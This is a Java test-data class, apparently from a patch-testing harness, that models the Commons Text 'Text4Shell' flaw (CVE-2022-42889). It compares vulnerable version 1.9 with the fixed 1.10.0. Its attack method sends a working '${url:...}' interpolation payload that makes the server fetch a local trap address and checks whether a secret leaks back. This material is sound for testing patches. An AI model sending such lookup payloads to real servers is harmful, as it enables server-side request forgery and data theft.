package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.corpus.MavenArtifact;
import java.io.IOException;
import java.util.List;
import java.util.UUID;

/** A template of a stranger makes the server fetch an address of the stranger's choice (or run a script, look up a name). */
public final class CommonsText implements Vulnerability {
    private static final String GROUP = "org.apache.commons";

    @Override
    public String cve() {
        return "CVE-2022-42889";
    }

    @Override
    public VictimProgram program() {
        return new VictimProgram(
                "TemplateMain",
                MavenArtifact.jar(GROUP, "commons-text", "1.9"),
                MavenArtifact.jar(GROUP, "commons-text", "1.10.0"),
                List.of(MavenArtifact.jar(GROUP, "commons-lang3", "3.12.0")),
                List.of());
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException, InterruptedException {
        String secret = UUID.randomUUID().toString();
        try (Trap internal = Trap.set(secret)) {
            RunningVictim.Reply reply =
                    victim.post("text/plain", "stolen: ${url:UTF-8:" + internal.address("internal") + "}");
            boolean fetched = internal.asked().contains("/internal");
            return new Attempt(fetched && reply.text().contains(secret), reply.text() + " " + internal.asked());
        }
    }

    @Override
    public String use(RunningVictim victim) throws IOException, InterruptedException {
        return victim.post("text/plain", "${base64Encoder:Hello} ${const:java.lang.Integer.MAX_VALUE}")
                .text();
    }
}
